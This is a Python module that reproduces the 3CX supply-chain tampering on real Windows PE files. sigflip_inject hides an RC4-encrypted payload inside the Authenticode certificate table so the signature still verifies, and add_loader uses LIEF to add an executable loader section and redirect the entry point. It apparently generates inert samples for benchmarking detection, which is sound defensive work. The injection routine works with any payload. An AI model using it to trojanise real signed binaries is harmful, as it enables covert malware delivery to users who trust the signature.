"""3CX-style tampering of real PE files, made at demo/bench time (never committed).

* ``sigflip_inject``: hide an RC4-encrypted payload after the PKCS#7 blob inside the Authenticode
  certificate table, prefixed with the SigFlip tag FEEDFACE FEEDFACE; grow WIN_CERTIFICATE.dwLength and
  the Security directory size, fix the checksum. The Authenticode digest excludes this area, so the
  signature still verifies (CVE-2013-3900), exactly as with the 3CX d3dcompiler_47.dll.
* ``add_loader``: bolt a loader onto a library with LIEF: a new executable section holding loader-like
  bytes and the 3CX marker/RC4-key strings, new imports, entry point moved into the new section; the
  version resource is left untouched (the 3CX ffmpeg.dll signal).

The bytes written are inert data: nothing is built to run, and nothing here is ever executed.
"""

from __future__ import annotations

import struct
from pathlib import Path

SIGFLIP_TAG = bytes.fromhex("FEEDFACEFEEDFACE")
RC4_KEY_3CX = b"3jB(2bsG#@c7"


def rc4(key: bytes, data: bytes) -> bytes:
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) & 0xFF
        s[i], s[j] = s[j], s[i]
    out = bytearray()
    i = j = 0
    for byte in data:
        i = (i + 1) & 0xFF
        j = (j + s[i]) & 0xFF
        s[i], s[j] = s[j], s[i]
        out.append(byte ^ s[(s[i] + s[j]) & 0xFF])
    return bytes(out)


def fake_payload(size: int = 24 * 1024, seed: int = 3) -> bytes:
    """Deterministic stand-in for a shellcode payload (inert bytes)."""
    import random

    rnd = random.Random(seed)
    stub = bytes.fromhex("4883EC28E800000000")  # sub rsp,28h; call $+5 (a typical shellcode prologue)
    return stub + bytes(rnd.getrandbits(8) for _ in range(size - len(stub)))


def _security_dir_offset(data: bytes) -> int:
    e_lfanew = struct.unpack_from("<I", data, 0x3C)[0]
    magic = struct.unpack_from("<H", data, e_lfanew + 24)[0]
    dd = e_lfanew + 24 + (96 if magic == 0x10B else 112)
    return dd + 4 * 8  # IMAGE_DIRECTORY_ENTRY_SECURITY


def sigflip_inject(pe_bytes: bytes, payload: bytes, key: bytes = RC4_KEY_3CX) -> bytes:
    """Append tag + RC4(payload) inside the last certificate entry of a signed PE."""
    data = bytearray(pe_bytes)
    sec = _security_dir_offset(data)
    table_off, table_size = struct.unpack_from("<II", data, sec)
    if not table_off or table_off + table_size != len(data):
        raise ValueError("the certificate table is not at the end of the file")
    # walk to the last WIN_CERTIFICATE entry
    off = table_off
    last = off
    while off < table_off + table_size:
        length = struct.unpack_from("<I", data, off)[0]
        if length < 8:
            break
        last = off
        off += (length + 7) & ~7
    blob = SIGFLIP_TAG + rc4(key, payload)
    blob += b"\x00" * (-len(blob) % 8)
    entry_len = struct.unpack_from("<I", data, last)[0]
    entry_end = last + ((entry_len + 7) & ~7)
    data[entry_end:entry_end] = blob
    struct.pack_into("<I", data, last, (entry_end - last) + len(blob))
    struct.pack_into("<I", data, sec + 4, table_size + len(blob))
    return _fix_checksum(bytes(data))


def _fix_checksum(data: bytes) -> bytes:
    import pefile

    pe = pefile.PE(data=data, fast_load=True)
    checksum = pe.generate_checksum()
    off = pe.OPTIONAL_HEADER.get_file_offset() + 64
    pe.close()
    out = bytearray(data)
    struct.pack_into("<I", out, off, checksum)
    return bytes(out)


LOADER_STRINGS = [
    b"d3dcompiler_47.dll\x00",
    b"AVMonitorRefreshEvent\x00",
    RC4_KEY_3CX + b"\x00",
    bytes.fromhex("FEEDFACE"),
]
# x64 bytes shaped like "find marker, RC4-decrypt, VirtualProtect(RWX), jump": inert data, never run
LOADER_STUB = bytes.fromhex(
    "4883EC38" "488D0D00000000" "FF1500000000" "4885C0" "7420" "41B840000000" "BA00100000" "4889C1"
    "4C8D4C2420" "FF1500000000" "FFD0" "4883C438" "C3"
)


def add_loader(src: Path, dst: Path, imports: tuple[str, ...] = (), move_entry: bool = True,
               section_name: str = ".text2") -> dict:
    """Write ``dst``: ``src`` plus a loader section (and new KERNEL32 imports), entry point moved there.

    The 3CX loader needed no new imports (FFmpeg already imports VirtualProtect), so none are added by
    default; LIEF's import rebuild also rewrites the whole import table, which a real attacker avoids.
    """
    import lief

    binary = lief.PE.parse(str(src))
    if binary is None:
        raise ValueError(f"LIEF cannot parse {src}")
    content = LOADER_STUB + b"\xcc" * 16 + b"".join(LOADER_STRINGS)
    content += b"\x90" * (-len(content) % 512)
    section = lief.PE.Section(section_name)
    section.content = list(content)
    section.characteristics = 0x60000020  # CODE | EXECUTE | READ
    added = binary.add_section(section)
    new_imports: list[str] = []
    if imports:
        kernel = (binary.get_import("KERNEL32.dll") or binary.get_import("kernel32.dll")
                  or binary.add_import("KERNEL32.dll"))
        have = {e.name for e in kernel.entries}
        new_imports = [name for name in imports if name not in have]
        for name in new_imports:
            kernel.add_entry(name)
    old_entry = binary.optional_header.addressof_entrypoint
    if move_entry:
        binary.optional_header.addressof_entrypoint = added.virtual_address
    config = lief.PE.Builder.config_t()
    config.imports = bool(new_imports)
    binary.write(str(dst), config)
    return {"section": section_name, "section_rva": added.virtual_address, "old_entry": old_entry,
            "new_imports": new_imports}
